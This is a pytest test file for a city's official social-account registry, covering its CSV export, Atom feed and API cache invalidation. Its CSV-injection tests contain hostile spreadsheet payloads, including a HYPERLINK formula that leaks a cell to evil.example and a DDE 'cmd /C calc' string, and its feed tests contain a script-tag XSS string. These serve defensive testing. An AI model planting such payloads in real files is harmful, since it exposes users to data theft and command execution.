"""Open data for people with a spreadsheet or a feed reader: the CSV (as Japanese Excel opens
it), the Atom feed of changes, and how a change reaches them (the stored files of
public/files.py; the API through the public cache). The serving itself is tested in
tests/public/test_opendata_files.py."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import pytest

from accounts.models import AccountStatus, OfficialAccount
from organization.models import Department
from tests.api.conftest import OFFICER_NAMES, ORG_MAIL_DOMAIN

pytestmark = pytest.mark.django_db

CSV_URL = "/accounts.csv"
FEED_URL = "/feed/"
ATOM = "{http://www.w3.org/2005/Atom}"
BOM = b"\xef\xbb\xbf"
HEADER = [
    "サービス",
    "アカウント名",
    "アカウントID",
    "URL",
    "運用部署",
    "発信の目的",
    "認証バッジ",
    "状態",
    "掲載開始日",
    "このサイトのページ",
]


# --- CSV --------------------------------------------------------------------------------


def csv_body(client, url: str = CSV_URL, **params) -> bytes:
    response = client.get(url, params)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(client, **params) -> list[list[str]]:
    body = csv_body(client, **params)
    text = body.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_starts_with_the_utf8_bom(client, demo):
    body = csv_body(client)
    assert body[:3] == BOM
    # Only one BOM, and the header follows it at once.
    assert body[3:].startswith("サービス".encode())
    assert BOM not in body[3:]


def test_csv_lines_all_end_with_crlf(client, demo):
    body = csv_body(client)
    assert body.endswith(b"\r\n")
    lines = body.split(b"\r\n")
    assert lines[-1] == b""
    for line in lines[:-1]:
        assert b"\n" not in line, line
        assert b"\r" not in line, line


def test_csv_line_breaks_inside_values_are_quoted(client, demo, tourism_account):
    """A purpose with a line break stays one record (quoted), so Excel shows one row."""
    OfficialAccount.objects.filter(pk=tourism_account.pk).update(
        purpose="四季の観光スポット、\n旬の食を紹介します。"
    )
    from django.core.cache import cache

    cache.clear()
    rows = csv_rows(client)
    row = next(r for r in rows if r[2] == "'@sample_city_kanko" and r[0] == "Instagram")
    assert row[5] == "四季の観光スポット、\n旬の食を紹介します。"
    assert len(rows) == 13


def test_csv_decodes_and_parses_into_a_japanese_header_and_one_row_per_account(client, demo):
    rows = csv_rows(client)
    assert rows[0] == HEADER
    assert len(rows) == 1 + 12
    assert all(len(r) == len(HEADER) for r in rows)
    listed = OfficialAccount.objects.filter(status=AccountStatus.LISTED)
    assert sorted(r[3] for r in rows[1:]) == sorted(a.url for a in listed)
    by_url = {r[3]: dict(zip(HEADER, r, strict=True)) for r in rows[1:]}
    kanko = by_url["https://www.instagram.com/sample_city_kanko/"]
    assert kanko["サービス"] == "Instagram"
    assert kanko["アカウント名"] == "サンプル市観光"
    # Neutralised for spreadsheets (see the CSV-injection tests below).
    assert kanko["アカウントID"] == "'@sample_city_kanko"
    assert kanko["運用部署"] == "経済観光局 観光部 観光プロモーション課"
    assert kanko["状態"] == "公開中"
    assert kanko["認証バッジ"]
    assert len(kanko["掲載開始日"]) == 10  # YYYY-MM-DD
    account = listed.get(service__slug="instagram")
    assert kanko["このサイトのページ"].endswith(f"/accounts/{account.pk}/")


def test_csv_headers_make_it_a_download(client, demo):
    response = client.get(CSV_URL)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert 'filename="' in disposition
    assert ".csv" in disposition


def test_csv_is_still_a_download_when_served_from_the_stored_file(client, demo):
    """The first download writes the file (public/files.py), the second is served from it."""
    first = client.get(CSV_URL)
    second = client.get(CSV_URL)
    assert second.getvalue() == first.getvalue()
    assert second["ETag"] == first["ETag"]
    assert second["Content-Type"] == "text/csv; charset=utf-8"
    assert second.get("Content-Disposition", "").startswith("attachment"), (
        "a stored CSV lost its Content-Disposition header"
    )


@pytest.mark.parametrize(
    ("params", "expected_services"),
    [
        ({"service": "x"}, ["X（旧Twitter）"] * 3),
        ({"service": "instagram"}, ["Instagram"]),
        ({"service": "nothing"}, []),
    ],
)
def test_csv_filters_apply(client, demo, params, expected_services):
    rows = csv_rows(client, **params)
    assert rows[0] == HEADER
    assert [r[0] for r in rows[1:]] == expected_services


def test_csv_department_filter_includes_sub_units(client, demo):
    bureau = Department.objects.get(code="400")
    rows = csv_rows(client, department=bureau.pk)
    assert sorted(r[0] for r in rows[1:]) == ["Instagram", "Threads", "TikTok"]
    assert {r[4] for r in rows[1:]} == {"経済観光局 観光部 観光プロモーション課"}


def test_csv_search_folds_kana_and_width(client, demo):
    plain = csv_rows(client, q="スポット")
    assert len(plain) == 2
    assert csv_rows(client, q="すぽっと") == plain
    assert csv_rows(client, q="ｽﾎﾟｯﾄ") == plain


def test_csv_leaves_out_closed_accounts(client, demo, tourism_account, close_account):
    close_account(tourism_account)
    rows = csv_rows(client)
    assert len(rows) == 1 + 11
    assert "https://www.instagram.com/sample_city_kanko/" not in {r[3] for r in rows}


def test_csv_and_feed_show_nothing_internal(client, demo, tourism_account, change_policy):
    change_policy(tourism_account)
    for url in (CSV_URL, FEED_URL):
        text = client.get(url).getvalue().decode("utf-8-sig")
        for secret in (*OFFICER_NAMES, ORG_MAIL_DOMAIN, "ログイン情報"):
            assert secret not in text, (url, secret)


def test_csv_is_public(client, demo):
    response = client.get(CSV_URL)
    assert response.status_code == 200  # no redirect to the staff login


# --- CSV injection (OWASP): nothing in the file is a formula to a spreadsheet ------------------

FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")',
    "+81-3-1234-5678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    'サンプル市,"観光"',
]


def refresh_public_cache():
    from django.core.cache import cache

    cache.clear()


def test_every_handle_is_neutralised_yet_still_readable(client, demo):
    """Every handle starts with "@", which Excel reads as a formula: each gets the single
    quote OWASP recommends, and what follows it is the handle exactly."""
    rows = csv_rows(client)
    cells = {r[3]: r[2] for r in rows[1:]}
    listed = OfficialAccount.objects.filter(status=AccountStatus.LISTED)
    at_handles = 0
    for account in listed:
        handle = account.key.display_handle
        if handle.startswith("@"):
            at_handles += 1
            assert cells[account.url] == "'" + handle
        else:  # e.g. "facebook.com/…": nothing to neutralise
            assert cells[account.url] == handle
    assert at_handles >= 5  # X, Instagram, TikTok … in the demo data


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_csv_never_writes_a_formula_and_keeps_the_text(client, demo, tourism_account, name):
    OfficialAccount.objects.filter(pk=tourism_account.pk).update(display_name=name, purpose=name)
    refresh_public_cache()
    body = csv_body(client)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    # Still one record per account with every column: a comma or quote in a value never
    # shifts the cells.
    assert len(rows) == 1 + 12
    assert all(len(r) == len(HEADER) for r in rows)
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_CHARS), cell
    row = next(r for r in rows if r[3] == "https://www.instagram.com/sample_city_kanko/")
    cells = dict(zip(HEADER, row, strict=True))
    for column in ("アカウント名", "発信の目的"):
        # The text is all there, behind the quote when it needed one.
        assert cells[column] in (name, "'" + name)
        assert cells[column].endswith(name)
    if "," in name:
        # Quoted in the file itself (quotes doubled), so no spreadsheet splits it on the comma.
        quoted = '"' + cells["アカウント名"].replace('"', '""') + '"'
        assert quoted.encode() in body


# --- Atom feed ----------------------------------------------------------------------------


def feed(client) -> ET.Element:
    response = client.get(FEED_URL)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    root = ET.fromstring(response.getvalue())
    assert root.tag == f"{ATOM}feed"
    return root


def entries(root: ET.Element) -> list[dict[str, str]]:
    out = []
    for entry in root.findall(f"{ATOM}entry"):
        link = entry.find(f"{ATOM}link")
        out.append(
            {
                "title": entry.findtext(f"{ATOM}title", ""),
                "summary": entry.findtext(f"{ATOM}summary", ""),
                "id": entry.findtext(f"{ATOM}id", ""),
                "updated": entry.findtext(f"{ATOM}updated", ""),
                "link": link.get("href", "") if link is not None else "",
            }
        )
    return out


def test_feed_is_atom_with_an_entry_per_listing(client, demo):
    root = feed(client)
    assert "公式SNSアカウント" in root.findtext(f"{ATOM}title", "")
    assert root.findtext(f"{ATOM}updated")
    assert root.findtext(f"{ATOM}id")
    items = entries(root)
    listings = [e for e in items if "掲載" in e["title"]]
    assert len(listings) == 12
    assert "【掲載】サンプル市観光（Instagram）" in {e["title"] for e in items}
    for e in items:
        assert e["id"]
        assert e["updated"]
        assert e["link"].startswith("http")
    # Entry ids are unique (feed readers use them to tell entries apart).
    assert len({e["id"] for e in items}) == len(items)


def test_feed_announces_a_real_closure(client, demo, tourism_account, close_account):
    close_account(tourism_account)
    items = entries(feed(client))
    closures = [e for e in items if "廃止" in e["title"]]
    assert len(closures) == 1
    (closure,) = closures
    assert closure["title"] == "【廃止】サンプル市観光（Instagram）"
    assert "廃止しました" in closure["summary"]
    assert closure["link"].endswith(f"/accounts/{tourism_account.pk}/")
    # Newest first: the closure is the latest event.
    assert items[0] == closure


def test_feed_announces_a_real_policy_revision(client, demo, tourism_account, change_policy):
    change_policy(tourism_account)
    items = entries(feed(client))
    revisions = [e for e in items if "運用ポリシー改定" in e["title"]]
    assert len(revisions) == 1
    (revision,) = revisions
    assert revision["title"] == "【運用ポリシー改定】サンプル市観光（Instagram）"
    assert "第2版" in revision["summary"]
    assert revision["link"].endswith(f"/accounts/{tourism_account.pk}/policy/2/")
    assert items[0] == revision
    # The original listing is still there.
    assert "【掲載】サンプル市観光（Instagram）" in {e["title"] for e in items}


@pytest.mark.parametrize(
    "name", ["<script>alert(1)</script>サンプル市", "<b>太字</b>市", "A &amp; B &lt;i&gt;"]
)
def test_feed_summary_shows_a_name_as_text_never_as_markup(client, demo, tourism_account, name):
    """A feed reader decodes the XML, then renders <summary type="html"> as HTML: the name
    must come out of that as the same characters, with no element in it."""
    from html.parser import HTMLParser

    OfficialAccount.objects.filter(pk=tourism_account.pk).update(display_name=name)
    refresh_public_cache()
    root = feed(client)
    for entry in root.findall(f"{ATOM}entry"):
        summary = entry.find(f"{ATOM}summary")
        if name not in html_text(summary.text):
            continue
        assert summary.get("type") == "html"

        class Elements(HTMLParser):
            found: list[str] = []

            def handle_starttag(self, tag, attrs):
                self.found.append(tag)

        parser = Elements()
        parser.found = []
        parser.feed(summary.text)
        assert parser.found == [], summary.text
        title = entry.find(f"{ATOM}title")
        assert title.get("type", "text") == "text"
        assert name in title.text
        break
    else:
        pytest.fail(f"no entry shows {name!r} as text")


def html_text(fragment: str) -> str:
    """What a reader shows for an HTML fragment that has no elements: the unescaped text."""
    import html

    return html.unescape(fragment or "")


def test_feed_is_public_and_xml_even_from_the_stored_file(client, demo):
    first = client.get(FEED_URL)
    second = client.get(FEED_URL)
    assert second["ETag"] == first["ETag"]
    assert second["Content-Type"] == first["Content-Type"]
    ET.fromstring(second.getvalue())


# --- Cache invalidation -------------------------------------------------------------------


def test_no_stale_official_after_a_closure(client, demo, tourism_account, close_account):
    url = "/api/v1/verify/?q=@sample_city_kanko"
    instagram = "/api/v1/verify/?q=https://www.instagram.com/sample_city_kanko/"
    first = client.get(url)
    assert first["X-Cache"] == "miss"
    assert first.json()["verdict"] == "official"
    second = client.get(url)
    assert second["X-Cache"] == "hit"
    assert second.json() == first.json()
    assert client.get(instagram).json()["verdict"] == "official"
    assert client.get(instagram)["X-Cache"] == "hit"

    close_account(tourism_account)

    after = client.get(url)
    assert after["X-Cache"] == "miss"
    data = after.json()
    # Instagram is closed; the same handle on TikTok and Threads is still official.
    assert data["verdict"] == "official"
    assert {a["service"] for a in data["matches"]} == {"tiktok", "threads"}
    assert all(a["status"] == "listed" for a in data["matches"])
    closed = client.get(instagram)
    assert closed["X-Cache"] == "miss"
    assert closed.json()["verdict"] == "closed"


def test_no_stale_official_after_closing_the_only_account_with_a_handle(
    client, demo, bousai_account, close_account
):
    url = "/api/v1/verify/?q=@sample_bousai"
    assert client.get(url).json()["verdict"] == "official"
    assert client.get(url)["X-Cache"] == "hit"
    close_account(bousai_account)
    response = client.get(url)
    assert response["X-Cache"] == "miss"
    assert response.json()["verdict"] == "closed"
    assert "廃止" in response.json()["message"]


def test_list_detail_csv_and_feed_are_refreshed_after_a_closure(
    client, demo, tourism_account, close_account
):
    detail = f"/api/v1/accounts/{tourism_account.pk}/"
    urls = ["/api/v1/accounts/", detail]
    for url in urls:
        client.get(url)
        assert client.get(url)["X-Cache"] == "hit", url
    # The open-data files are not in the page cache: each generation has its own file.
    files = {url: client.get(url)["ETag"] for url in (CSV_URL, FEED_URL)}
    close_account(tourism_account)
    for url in urls:
        assert client.get(url)["X-Cache"] == "miss", url
    for url, etag in files.items():
        assert client.get(url, headers={"If-None-Match": etag}).status_code == 200, url
    assert client.get("/api/v1/accounts/").json()["count"] == 11
    assert client.get(detail).json()["status"] == "closed"
    assert len(csv_rows(client)) == 1 + 11
    assert any("廃止" in e["title"] for e in entries(feed(client)))


def test_a_new_impersonation_warning_refreshes_the_verifier(client, demo, users):
    from accounts.models import Service
    from impersonation.models import KnownImpersonation

    url = "/api/v1/verify/?q=https://x.com/sample_b0usai"
    assert client.get(url).json()["verdict"] == "unknown"
    assert client.get(url)["X-Cache"] == "hit"
    KnownImpersonation.objects.create(
        service=Service.objects.get(slug="x"),
        identifier="sample_b0usai",
        url="https://x.com/sample_b0usai",
        warning="当市の公式アカウントではありません。",
        created_by=users["pr"],
    )
    response = client.get(url)
    assert response["X-Cache"] == "miss"
    assert response.json()["verdict"] == "impersonation"
